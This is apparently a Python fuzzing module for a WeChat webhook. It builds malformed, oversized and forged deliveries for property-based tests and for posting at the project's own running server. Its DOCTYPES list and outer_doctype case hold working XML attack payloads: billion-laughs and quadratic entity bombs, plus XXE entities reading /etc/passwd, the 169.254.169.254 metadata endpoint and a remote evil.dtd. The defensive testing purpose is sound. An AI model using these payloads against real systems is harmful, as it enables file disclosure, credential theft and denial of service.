"""Hostile WeChat deliveries for fuzzing the webhook: broken, oversized, entity-laden or oddly shaped XML.

Most are wrapped as WeChat wraps a real message (signed with the token and, in safe mode, encrypted with the right
key), so they get past the signature check to the XML parser and the message handling. The rest attack the wrapping
itself: forged, stale or non-ASCII signatures, a bad msg_signature, ciphertext with bad base64, padding, key or AppID,
plaintext posted in safe mode and ciphertext posted in plaintext mode.

One set of builders, two sources of choices: `hostile_delivery`, a hypothesis strategy (for tests), and
`hostile_deliveries`, a seeded list (for posting at a running webhook); a delivery is (body, query). Hostile senders
use neither WeChat's 19-digit MsgIds nor followers' OpenIDs: they cannot shadow a real message in de-duplication.
"""

from __future__ import annotations

import base64
import random
import string
import time
from collections.abc import Callable, Sequence
from typing import TYPE_CHECKING, Any, Protocol, TypeVar

from wechatpy.crypto import PrpCrypto

from simulators.wechat.wechat_server import ORIGINAL_ID
from wechat.security import signature
from wechat.settings import WeChatSettings

if TYPE_CHECKING:
    from hypothesis.strategies import SearchStrategy

T = TypeVar("T")
Delivery = tuple[bytes, dict[str, str]]
Fields = list[tuple[str, str]]
"""A message as (tag, inner markup); a tag may carry attributes ("Content lang='zh'")."""

CHARACTERS = [*string.ascii_letters, *string.digits, *" 居住证医保社民政，。😀", "]]>", "<", ">", "&", "'", '"', "\t",
              "\n", "\r", "\x00", "\x01", "\x1b", "\x7f", "\x85", "\u00a0", "\u2028", "\u202e", "\u3000", "\ufeff",
              "\ufffe", "\ud800", "\udfff"]  # fmt: skip
"""What hostile texts are made of: ordinary letters, markup, controls, odd spaces, lone surrogates."""
OPENIDS = [*(f"oHostile000000000000000000{n}" for n in range(1, 6)), "", " ", "\u00a0", "a]]>b", "居民",
           "o" * 300, "<script>", "&amp;"]  # fmt: skip
MSG_IDS = ["", "0", "1", "-1", "abc", "1.5", "٣٤", "１２", " 42 ", "0x1F", "9" * 25, "9" * 5000]
"""Never 19 digits: a hostile MsgId cannot collide with a real one."""
CREATE_TIMES = ["", "-1", "0", "abc", "1e9", "²³", "１２３", "٣٤", " 1700000000 ", "9" * 30, "9" * 5000]
PHRASES = ["我想办居住证", "医保卡丢了怎么办", "hello", "  空格  ", "a]]>b", "", "？", "😀", "两行\n文字",
           "<b>不是标签</b>", "&amp;"]  # fmt: skip
"""Texts a follower might write (the odd ones still legal XML inside CDATA)."""
MSG_TYPES = ["text", "event", "voice", "image", "TEXT", "", " ", "unknown", " text ", "文本", "location"]
EVENTS = ["subscribe", "unsubscribe", "CLICK", "SCAN", "VIEW", "", "LOCATION", "nonsense", "Subscribe"]
EVENT_KEYS = ["PROGRESS", "TAKE_NUMBER", "qrscene_item_residence_permit", "item_x", "queue", "", "NO_SUCH_KEY"]
CONTENT_MARKUP = ["&#xD800;", "&#0;", "&#1;", "&#x1F600;", "&#x110000;", "&#65;", "&lt;&amp;", "&unknown;", "&",
                  "<![CDATA[a]]>b]]>", "<![CDATA[<xml>]]>", "<![CDATA[unclosed", "<![CDATA[<![CDATA[x]]>]]>",
                  "a<![CDATA[b]]>c", "<![CDATA[]]>", "   ", "a<!-- c -->b", "a<?pi x?>b", "<b>x</b>", "<Content/>",
                  "\x00", "\ufffe", "]]>", "<![CDATA[\x00]]>", "<![CDATA[\x1b]]>"]  # fmt: skip
_LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
DOCTYPES = [
    ('<!DOCTYPE xml [<!ENTITY a0 "lol">' + _LAUGHS + "]>", "&a9;"),  # billion laughs
    ('<!DOCTYPE xml [<!ENTITY a "' + "x" * 4000 + '">]>', "&a;" * 12),  # quadratic blow-up
    ('<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
    ('<!DOCTYPE xml [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>', "&x;"),
    ('<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://example.invalid/evil.dtd"> %p;]>', "&evil;"),
    ("<!DOCTYPE xml [<!ENTITY % p \"<!ENTITY q 'quoted'>\"> %p;]>", "&q;"),
    ('<!DOCTYPE xml SYSTEM "http://example.invalid/wechat.dtd">', "hi"),
    ('<!DOCTYPE xml [<!ENTITY who "居住证">]>', "&who;"),
]
PROLOGS = ["", '<?xml version="1.0" encoding="UTF-8"?>', '<?xml version="1.0" encoding="gbk"?>',
           '<?xml version="1.0" encoding="UTF-16"?>', '<?xml version="1.0" encoding="latin-1"?>',
           '<?xml version="1.0" encoding="x-no-such"?>', '<?xml version="2.0"?>', "<?php echo 1; ?>",
           '<?xml-stylesheet href="http://example.invalid/x.xsl"?>', "<!-- before -->", "\n\n  "]  # fmt: skip
EPILOGS = ["", "", "<!-- after -->", "<?pi after?>", "<xml/>", "trailing junk", "\x00"]
ROOTS = ["xml", "xml", "XML", 'xml xmlns="urn:wechat"', 'w:xml xmlns:w="urn:wechat"', "html", 'xml a="1"']
ENCODINGS = ["utf-8", "utf-8", "utf-8", "utf-8-sig", "utf-16", "gbk", "latin-1"]


class Draw(Protocol):
    """Where the builders' choices come from: hypothesis's draws or a seeded random generator."""

    def choice(self, options: Sequence[T]) -> T: ...
    def integer(self, low: int, high: int) -> int: ...
    def text(self, max_size: int) -> str: ...
    def binary(self, max_size: int) -> bytes: ...


class _Seeded:
    """Choices from `random.Random(seed)`: the same seed gives the same deliveries (but for their timestamps)."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    def choice(self, options: Sequence[T]) -> T:
        return self.rng.choice(options)

    def integer(self, low: int, high: int) -> int:
        return self.rng.randint(low, high)

    def text(self, max_size: int) -> str:
        return "".join(self.rng.choice(CHARACTERS) for _ in range(self.rng.randint(0, max_size)))

    def binary(self, max_size: int) -> bytes:
        return self.rng.randbytes(self.rng.randint(0, max_size))


class _Drawn:
    """Choices drawn by hypothesis (inside `st.composite`), so failures shrink to the simplest delivery."""

    def __init__(self, draw: Callable[[Any], Any]) -> None:
        from hypothesis import strategies as st

        self.draw, self.st = draw, st

    def choice(self, options: Sequence[T]) -> T:
        return self.draw(self.st.sampled_from(options))

    def integer(self, low: int, high: int) -> int:
        return self.draw(self.st.integers(low, high))

    def text(self, max_size: int) -> str:
        return "".join(self.draw(self.st.lists(self.st.sampled_from(CHARACTERS), max_size=max_size)))

    def binary(self, max_size: int) -> bytes:
        return self.draw(self.st.binary(max_size=max_size))


def _cdata(value: str) -> str:
    return "<![CDATA[" + value.replace("]]>", "]]]]><![CDATA[>") + "]]>"


def _message(d: Draw) -> Fields:
    """A plausible message (text, event, voice or another type) from a hostile sender, before any mischief."""
    msg_type = d.choice(MSG_TYPES)
    fields = [("ToUserName", _cdata(ORIGINAL_ID)), ("FromUserName", _cdata(d.choice(OPENIDS)))]
    fields += [("CreateTime", str(int(time.time()) - d.integer(0, 60))), ("MsgType", _cdata(msg_type))]
    if msg_type.strip().lower() == "event":
        return [*fields, ("Event", _cdata(d.choice(EVENTS))), ("EventKey", _cdata(d.choice(EVENT_KEYS)))]
    if msg_type == "voice":
        fields += [("MediaId", _cdata("m" + str(d.integer(0, 99)))), ("Recognition", _cdata(_words(d)))]
    else:
        fields.append(("Content", _cdata(_words(d))))
    return [*fields, ("MsgId", d.choice([str(d.integer(1, 10**12)), d.choice(MSG_IDS)]))]


def _words(d: Draw) -> str:
    """What a hostile sender writes: mostly a phrase, sometimes anything (controls and lone surrogates included)."""
    return d.choice([*PHRASES, d.text(40)] if d.choice([True, True, False]) else [d.text(40)])


def _mischief(d: Draw, fields: Fields, limit: int) -> tuple[Fields, str]:
    """One thing done wrong to the fields; returns them and a DOCTYPE to put before the root (or "")."""
    kind = d.choice(["none", "none", "none", "shape", "drop", "duplicate", "markup", "nested", "attribute",
                     "namespace", "huge", "doctype", "entity_in_sender"])  # fmt: skip
    at = d.integer(0, len(fields) - 1)
    tag, inner = fields[at]
    if kind == "shape":
        tag, pool = d.choice([("CreateTime", CREATE_TIMES), ("MsgId", MSG_IDS), ("MsgType", MSG_TYPES),
                              ("Event", EVENTS), ("FromUserName", OPENIDS)])  # fmt: skip
        return [(t, i) for t, i in fields if t != tag] + [(tag, _cdata(d.choice(pool)))], ""
    if kind == "drop":
        drop = d.choice(["FromUserName", "CreateTime", "MsgType", "MsgId", tag])
        return [(t, i) for t, i in fields if t != drop], ""
    if kind == "duplicate":
        copy = d.choice([inner, _cdata(d.choice(OPENIDS)), _cdata(d.text(10))])
        return [*fields[: at + 1], (tag, copy), *fields[at + 1 :]], ""
    if kind == "markup":
        return _replace(fields, "Content", d.choice(CONTENT_MARKUP)), ""
    if kind == "nested":
        depth = d.choice([1, 2, 1100, 6000])  # past Python's recursion limit, and past what a C stack likes
        return _replace(fields, d.choice(["Content", tag]), "<a>" * depth + "x" + "</a>" * depth), ""
    if kind == "attribute":
        return [*fields[:at], (f'{tag} lang="zh"', inner), *fields[at + 1 :]], ""
    if kind == "namespace":
        spelling = d.choice([f'w:{tag} xmlns:w="urn:x"', f'{tag} xmlns="urn:x"', f"w:{tag}"])
        return [*fields[:at], (spelling, inner), *fields[at + 1 :]], ""
    if kind == "huge":
        size = d.choice([limit, limit * 3 // 4]) + d.integer(-1024, 256)
        unit, rendered_bytes = d.choice([("a", 1), ("居", 3), ("]]>", 15)])
        return _replace(fields, "Content", _cdata(unit * max(size // rendered_bytes, 0))), ""
    if kind in ("doctype", "entity_in_sender"):
        doctype, reference = d.choice(DOCTYPES)
        return _replace(fields, "Content" if kind == "doctype" else "FromUserName", reference), doctype
    return fields, ""


def _replace(fields: Fields, tag: str, inner: str) -> Fields:
    """``fields`` with the inner markup of ``tag`` replaced (or the field added)."""
    if not any(t.split()[0] == tag for t, _ in fields):
        return [*fields, (tag, inner)]
    return [(t, inner if t.split()[0] == tag else i) for t, i in fields]


def _document(d: Draw, limit: int) -> bytes:
    """The plaintext XML of one hostile message, or something that is not XML at all."""
    kind = d.choice(["message"] * 7 + ["bytes", "text", "deep", "empty"])
    if kind == "bytes":
        return d.binary(300)
    if kind == "text":
        return d.text(200).encode("utf-8", "surrogatepass")
    if kind == "deep":
        depth = d.choice([50, 1100, 5000, 20000])
        return ("<xml>" + "<a>" * depth + "</a>" * d.choice([depth, 0]) + "</xml>").encode()
    if kind == "empty":
        return d.choice([b"", b"<xml/>", b"<xml></xml>", b"\xef\xbb\xbf"])
    fields, doctype = _mischief(d, _message(d), limit)
    twist = d.choice(["none", "none", "none", "prolog", "root", "epilog", "encoding", "truncated"])
    prolog, epilog = d.choice(PROLOGS) if twist == "prolog" else "", d.choice(EPILOGS) if twist == "epilog" else ""
    root = d.choice(ROOTS) if twist == "root" else "xml"
    body = "".join(f"<{tag}>{inner}</{tag.split()[0]}>" for tag, inner in fields)
    text = prolog + doctype + f"<{root}>{body}</{root.split()[0]}>" + epilog
    encoding = d.choice(ENCODINGS) if twist == "encoding" else "utf-8"
    data = text.encode(encoding, "surrogatepass" if encoding.startswith("utf") else "replace")
    if twist == "truncated":
        data = data[: d.integer(0, len(data))]  # cut off in transit: an unclosed document
    return data


def _query(settings: WeChatSettings, d: Draw, stamp: str, token: str | None = None) -> dict[str, str]:
    nonce = str(d.integer(10**8, 10**10))
    signed = signature(settings.token if token is None else token, stamp, nonce)
    return {"signature": signed, "timestamp": stamp, "nonce": nonce, "openid": OPENIDS[0]}


def _encrypted(settings: WeChatSettings, query: dict[str, str], encrypt: str, outer: str = "") -> Delivery:
    """The safe-mode body around ``encrypt`` (its msg_signature correct, so the ciphertext itself gets read)."""
    msg_signature = signature(settings.token, query["timestamp"], query["nonce"], encrypt)
    body = f"<xml><ToUserName>{_cdata(ORIGINAL_ID)}</ToUserName><Encrypt>{_cdata(encrypt)}</Encrypt>{outer}</xml>"
    return body.encode(), query | {"encrypt_type": "aes", "msg_signature": msg_signature}


class _Cipher(PrpCrypto):
    """WeChat's own AES scheme (what `WeChatCrypto` uses) with a drawn 16-character prefix instead of `random`'s."""

    def __init__(self, key: str, prefix: str) -> None:
        super().__init__(base64.b64decode(key + "="))
        self.prefix = prefix

    def get_random_string(self) -> str:
        return self.prefix


def _wrap(d: Draw, settings: WeChatSettings, plain: bytes) -> Delivery:
    """``plain`` as WeChat would post it, mostly; sometimes with the wrapping itself forged or broken."""
    genuine = d.choice([True, True, True, True, False])
    way = "genuine" if genuine else d.choice(
        ["forged", "stale", "future", "missing", "non_ascii", "huge_timestamp", "word_timestamp", "upper_case",
         *(["bad_msg_signature", "bad_base64", "bad_length", "flipped", "wrong_appid", "wrong_key", "plaintext",
             "outer_doctype", "outer_duplicate", "outer_nested"] if settings.safe_mode else ["encrypted"])]
    )  # fmt: skip
    timestamp = {"stale": -3600, "future": 3600}.get(way, 0) + int(time.time())
    stamp = {"huge_timestamp": "9" * 400, "word_timestamp": "yesterday"}.get(way, str(timestamp))
    query = _query(settings, d, stamp, token="not-the-token" if way == "forged" else None)
    body = plain
    if way == "encrypted" or (settings.safe_mode and way != "plaintext"):
        body, query = _sealed(d, settings, way, plain, query)
    if way == "missing":
        query.pop(d.choice(["signature", "timestamp", "nonce"]))
    if way == "non_ascii":
        query[d.choice(["signature", "nonce"])] = d.choice(["é" * 40, "１２３４５", "签名"])
    if way == "upper_case":
        query["signature"] = query["signature"].upper()
    return body, query


def _sealed(d: Draw, settings: WeChatSettings, way: str, plain: bytes, query: dict[str, str]) -> Delivery:
    """The safe-mode body and query for ``plain``: right, or broken the ``way`` asked for."""
    if way == "bad_base64":
        return _encrypted(settings, query, d.choice(["!!!not base64!!!", "YWJj", "=" * 8, "%" + str(d.integer(0, 99))]))
    if way == "bad_length":
        return _encrypted(settings, query, base64.b64encode(d.binary(70)).decode())
    cipher = _Cipher("b" * 43 if way == "wrong_key" else settings.aes_key or "a" * 43, f"{d.integer(0, 10**16):016d}")
    encrypt = cipher.encrypt(plain, "wx_not_this_app" if way == "wrong_appid" else settings.appid).decode()
    if way == "flipped":  # one bit of the ciphertext: garbage padding, length or AppID after decryption
        raw = bytearray(base64.b64decode(encrypt))
        raw[d.integer(0, len(raw) - 1)] ^= 1 << d.integer(0, 7)
        encrypt = base64.b64encode(bytes(raw)).decode()
    outer = {"outer_duplicate": "<Encrypt>{}</Encrypt>", "outer_nested": "<Nested><Encrypt>{}</Encrypt></Nested>"}
    body, signed = _encrypted(settings, query, encrypt, outer.get(way, "").format(_cdata(encrypt)))
    if way == "outer_doctype":
        body = b'<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + body
    if way == "bad_msg_signature":
        signed["msg_signature"] = d.choice(["0" * 40, "", "é" * 40, signed["msg_signature"][:-1]])
    return body, signed


def _hostile(d: Draw, settings: WeChatSettings) -> Delivery:
    """One hostile delivery, its choices taken from ``d``."""
    return _wrap(d, settings, _document(d, settings.max_body_bytes))


def hostile_delivery(settings: WeChatSettings) -> SearchStrategy[Delivery]:
    """A hypothesis strategy of hostile deliveries (body, query) for the webhook configured by ``settings``."""
    from hypothesis import strategies as st

    return st.composite(lambda draw: _hostile(_Drawn(draw), settings))()


def hostile_deliveries(settings: WeChatSettings, count: int, seed: int) -> list[Delivery]:
    """``count`` hostile deliveries (body, query), the same for the same seed; signed with the current time, so post
    them within ``settings.timestamp_tolerance_s``."""
    d = _Seeded(seed)
    return [_hostile(d, settings) for _ in range(count)]
